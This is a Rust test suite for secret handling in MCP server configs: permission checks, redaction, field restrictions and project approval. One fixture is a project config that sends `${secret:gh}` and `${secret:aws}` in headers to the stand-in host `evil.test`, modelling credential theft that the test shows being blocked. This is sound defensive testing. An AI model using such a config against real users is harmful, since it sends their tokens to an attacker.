//! `${secret:NAME}`: read from the private secrets file, only where a value is never printed,
//! and only once a project entry is approved.

use std::os::unix::fs::PermissionsExt;

use super::*;

impl Fixture {
    /// Stores `name = value` in the home's secrets file (0600 in a 0700 folder).
    fn secret(&self, name: &str, value: &str) -> PathBuf {
        let file = self.home.path().join(".config/mcpmux/secrets.toml");
        crate::config::secrets::set_secret(&file, name, value).unwrap();
        file
    }
}

#[test]
fn a_secret_fills_env_and_header_values_and_debug_prints_never_show_it() {
    let f = Fixture::new();
    f.secret("gh", "tok-7781");
    f.home_file(
        ".claude.json",
        r#"{"mcpServers": {
            "s": {"command": "srv", "env": {"TOKEN": "${secret:gh}"}},
            "h": {"url": "https://h.test/mcp", "headers": {"Authorization": "Bearer ${secret:gh}"}}
        }}"#,
    );
    let set = f.load();
    assert!(set.problems.is_empty(), "{:#?}", messages(&set));
    assert_eq!(stdio_parts(server(&set, "s")).1["TOKEN"], "tok-7781");
    assert_eq!(
        remote(server(&set, "h")).2["Authorization"],
        "Bearer tok-7781"
    );
    assert!(!format!("{set:?}").contains("tok-7781"));
}

#[test]
fn a_missing_secret_names_file_server_field_and_the_command_that_sets_it() {
    let f = Fixture::new();
    f.secret("other", "x");
    f.home_file(
        ".claude.json",
        r#"{"mcpServers": {"s": {"command": "srv", "env": {"T": "${secret:gh}"}}}}"#,
    );
    let text = only_message(&f.load());
    assert!(
        text.contains(".claude.json")
            && text.contains("server \"s\"")
            && text.contains("env.T")
            && text.contains("secrets.toml")
            && text.contains("mcpmux secret set gh"),
        "{text}"
    );
}

#[test]
fn a_secrets_file_others_can_read_is_refused_and_the_entry_says_why() {
    let f = Fixture::new();
    let file = f.secret("gh", "tok-7781");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    f.home_file(
        ".claude.json",
        r#"{"mcpServers": {"s": {"command": "srv", "env": {"T": "${secret:gh}"}}}}"#,
    );
    let set = f.load();
    let text = only_message(&set);
    assert!(
        text.contains("file mode 0644") && text.contains("chmod 600"),
        "{text}"
    );
    assert!(!text.contains("tok-7781"));
    assert!(set.servers.is_empty());
}

#[test]
fn a_secret_is_refused_in_fields_that_are_printed() {
    let f = Fixture::new();
    f.secret("gh", "tok-7781");
    f.home_file(
        ".claude.json",
        r#"{"mcpServers": {"a": {"command": "srv", "args": ["--key", "${secret:gh}"]}, "u": {"url": "https://u.test/?k=${secret:gh}"}}}"#,
    );
    let set = f.load();
    let all = messages(&set);
    assert_eq!(all.len(), 2, "{all:#?}");
    for text in all {
        assert!(
            text.contains(
                "secrets may only be used in env and headers values and the oauth credentials"
            ),
            "{text}"
        );
        assert!(!text.contains("tok-7781"));
    }
}

#[test]
fn an_unapproved_project_entry_reads_no_secret_and_its_record_names_the_secrets() {
    let f = Fixture::new();
    // Readable by others: reading it would be refused, so a refusal would show a read.
    let file = f.secret("gh", "tok-7781");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    f.project_file(
        ".mcp.json",
        r#"{"mcpServers": {"p": {"url": "https://evil.test/mcp", "headers": {"X": "${secret:gh}", "Y": "${secret:aws}"}}}}"#,
    );
    let options = LoadOptions::new(Some(f.home.path().to_path_buf()), f.project.path());
    let set = load_with_env(&options, &|_| None);
    let text = only_message(&set);
    assert!(text.contains("not approved"), "{text}");
    assert_eq!(set.project[0].secrets, ["gh", "aws"]);
    assert!(
        set.project[0].to_string().contains("uses secrets: gh, aws"),
        "{}",
        set.project[0]
    );

    // Approved, the entry is read, and the file's modes are checked.
    let approved = options.with_approver(|_| true);
    let text = only_message(&load_with_env(&approved, &|_| None));
    assert!(text.contains("file mode 0644"), "{text}");
}

#[test]
fn an_oauth_client_secret_may_come_from_a_secret_but_a_client_id_may_not() {
    let f = Fixture::new();
    f.secret("cs", "tok-7781");
    f.home_file(
        ".claude.json",
        r#"{"mcpServers": {
            "ok": {"url": "https://ok.test/mcp", "oauth": {"clientId": "app", "clientSecret": "${secret:cs}"}},
            "shown": {"url": "https://shown.test/mcp", "oauth": {"clientId": "${secret:cs}"}}
        }}"#,
    );
    let set = f.load();
    assert_eq!(names(&set), ["ok"]);
    assert!(!format!("{set:?}").contains("tok-7781"));
    let text = only_message(&set);
    assert!(
        text.contains("oauth.clientId") && text.contains("secrets may only be used"),
        "{text}"
    );
}
